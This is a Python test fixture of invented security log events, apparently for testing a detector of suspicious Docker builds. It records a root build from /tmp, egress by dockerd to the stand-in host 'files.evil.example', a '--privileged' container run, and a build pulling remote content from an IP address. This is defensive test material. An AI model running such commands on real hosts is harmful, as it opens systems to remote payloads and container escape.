"""Events that these tests read, all made up."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

Event = dict[str, Any]

BUILD: Event = {
    "TimeGenerated": "2026-03-02T08:06:43Z",
    "DeviceName": "web-prod-07",
    "AccountName": "root",
    "FileName": "docker",
    "ProcessCommandLine": "docker build --no-cache -t app:1 -f /tmp/build/Dockerfile .",
    "InitiatingProcessFileName": "bash",
}
EGRESS: Event = {
    "TimeGenerated": "2026-03-02T08:06:50Z",
    "DeviceName": "web-prod-07",
    "InitiatingProcessFileName": "dockerd",
    "RemoteIP": "203.0.113.7",
    "RemotePort": 443,
    "RemoteUrl": "files.evil.example",
}
DEPLOY: Event = {
    **BUILD,
    "TimeGenerated": "2026-03-02T08:07:43Z",
    "ProcessCommandLine": "docker run -d --privileged app:1",
}
NO_LINE: Event = {
    "Timestamp": "2026-03-02T08:06:41Z",
    "DeviceName": "web-prod-07",
    "ActionType": "ProcessCreated",
    "FileName": "docker",
}
QUIET: Event = {**BUILD, "FileName": "ls", "ProcessCommandLine": "ls"}
HIGH: Event = {
    **BUILD,
    "DeviceName": "db-01",
    "ProcessCommandLine": "docker build https://203.0.113.7/x.tar",
}
UNKNOWN: Event = {"a": 1}
LOGON: Event = {**BUILD, "Type": "DeviceLogonEvents"}
ALL = [BUILD, EGRESS, DEPLOY, QUIET]


def later(event: Event, seconds: float) -> Event:
    """Give the event at another time of the same day."""
    time = datetime(2026, 3, 2, tzinfo=UTC) + timedelta(seconds=seconds)
    return {**event, "TimeGenerated": time.isoformat()}
